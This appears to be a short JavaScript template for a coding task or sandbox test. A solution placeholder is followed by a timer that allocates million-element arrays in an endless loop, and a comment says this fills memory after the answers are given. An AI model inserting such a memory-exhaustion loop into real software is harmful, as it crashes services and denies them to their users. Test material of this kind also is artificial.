// Fills the memory, once the answers have been given.
__SOLUTION__

const kept = [];
setTimeout(() => { for (;;) kept.push(new Array(1_000_000).fill(kept.length + 0.5)); });
function handleRequest(request) {
  return answer(request);
}
